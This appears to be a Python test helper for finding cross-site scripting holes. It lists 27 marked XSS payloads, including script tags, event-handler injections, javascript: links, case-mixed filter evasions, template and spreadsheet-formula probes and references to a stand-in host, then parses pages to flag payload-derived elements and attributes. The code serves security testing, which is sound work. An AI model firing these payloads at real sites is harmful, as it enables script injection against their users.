"""What people who want to run script in other people's browsers write into fields, and how to see whether it ran."""

from html.parser import HTMLParser
from urllib.parse import unquote

MARK = "xss9"  # in each of them, so that it can be found in a page, and told from what is ours

PAYLOADS = (
    "<script>xss9()</script>",
    "<ScRiPt src=//xss9.example></sCrIpT>",
    "</script><script>xss9()</script>",
    '"><script>xss9()</script>',
    "'><img src=x onerror=xss9()>",
    "<img src=x onerror=xss9()>",
    '" onmouseover="xss9()" x="',
    "' autofocus onfocus='xss9()",
    "` onload=`xss9()",
    "<svg/onload=xss9()>",
    "<svg><animate onbegin=xss9() attributeName=x>",
    "<math><a xlink:href=javascript:xss9()>x</a></math>",
    "</textarea><xss9 onclick=x>",
    "</title><xss9>",
    "--><xss9><!--",
    "<![CDATA[><xss9>]]>",
    "javascript:xss9()",
    '<a href="jAvAsCrIpT:xss9()">x</a>',
    "<iframe srcdoc='&lt;script&gt;xss9()&lt;/script&gt;'>",
    "<form action=//xss9.example><button formaction=javascript:xss9()>x",
    "<base href=//xss9.example/><style>@import '//xss9.example'</style>",
    "{{ 7*7 }}<xss9>${7*7}{% raw %}",
    "&lt;xss9&gt;&#60;xss9&#62;&amp;lt;xss9&amp;gt;",
    "＜xss9＞ʺ﹤script﹥xss9\u202e<xss9>\u2028<xss9>",
    '=HYPERLINK("javascript:xss9()"),"<xss9>"',
    '{"xss9": "</script><xss9>"}',
    "<xss9 hx-get=//xss9.example hx-trigger=load data-hx-get=/x>",
)

_ADDRESSES = ("href", "src", "action", "formaction", "srcdoc", "poster", "data", "xlink:href", "hx-get", "hx-post")
_HARMLESS = ("/", "#", "?", "mailto:", "tel:")


class Seen(HTMLParser):
    """What a browser makes of a page: faults are elements, attributes and addresses that came from a payload."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text, self._is_script = "", False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARK in tag or tag in ("iframe", "base", "math", "style", "object", "embed", "animate"):
            self.faults.append(f"<{tag}>")
        self._is_script = tag == "script"
        for name, value in attrs:
            self._look(tag, name, value or "")

    def _look(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "data-hx")) or MARK in name:
            self.faults.append(f"<{tag} {name}>")
        if name in _ADDRESSES and MARK in unquote(value) and not value.startswith(_HARMLESS):
            self.faults.append(f"<{tag} {name}={value}>")
        if name in _ADDRESSES and value.startswith(("//", "/\\")):
            self.faults.append(f"<{tag} {name}={value}>")
        self.text += f" {value}"

    def handle_data(self, data: str) -> None:
        if self._is_script and data.strip():
            self.faults.append("a script of its own")
        self.text += data

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.faults.append("a comment")

    def handle_endtag(self, tag: str) -> None:
        self._is_script = False

    def unknown_decl(self, data: str) -> None:
        self.faults.append("a declaration")
